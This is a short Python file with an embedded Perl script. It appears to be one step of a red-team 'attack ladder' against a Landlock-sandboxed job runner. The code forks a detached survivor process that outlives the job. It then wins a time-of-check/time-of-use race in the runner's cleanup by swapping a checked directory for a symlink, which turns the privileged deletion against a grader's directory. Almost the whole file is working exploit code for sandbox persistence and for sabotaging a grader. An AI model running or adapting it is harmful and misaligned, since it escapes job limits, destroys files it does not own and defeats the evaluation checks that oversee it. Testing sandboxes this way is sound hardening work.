# `landlock` mode: outlive the job (a self-extending chain, see attack_ladder.py), then turn the
# zygote's cleanup of the job directory against a directory of the grader's. _remove_inside()
# checks "is a directory, not a symlink" when it lists a parent and only later chmods, lists and
# unlinks beneath it by path; a survivor swaps the directory for a symlink in between.
import os, time
TARGET = "/tmp/victim/keep"
os.makedirs("x/d")
for i in range(3000):
    open(f"x/f{i:04d}", "w").close()
order = os.listdir("x")
assert order.index("d") < len(order) - 50, "d listed too late: rename the files"
sentinel = "x/" + order[order.index("d") + 1]  # unlinked by the cleanup just after it checked x/d
script = r'''
my ($main, $sentinel, $target) = @ARGV;
while (1) { my $p = fork(); next unless defined $p; last if $p; }
$0 = "ladder-survivor";
while (-e $sentinel) { select(undef, undef, undef, 0.01); }
if (rename("x/d", "x/real")) { symlink($target, "x/d"); }
sleep 1000000;
'''
with open("ladder.pl", "w") as f:
    f.write(script)
main = os.getpid()
for i in range(1):
    if os.fork() == 0:
        os.setsid()
        os.execv("/usr/bin/perl", ["perl", os.path.abspath("ladder.pl"), str(main), sentinel, TARGET])
time.sleep(1.0)
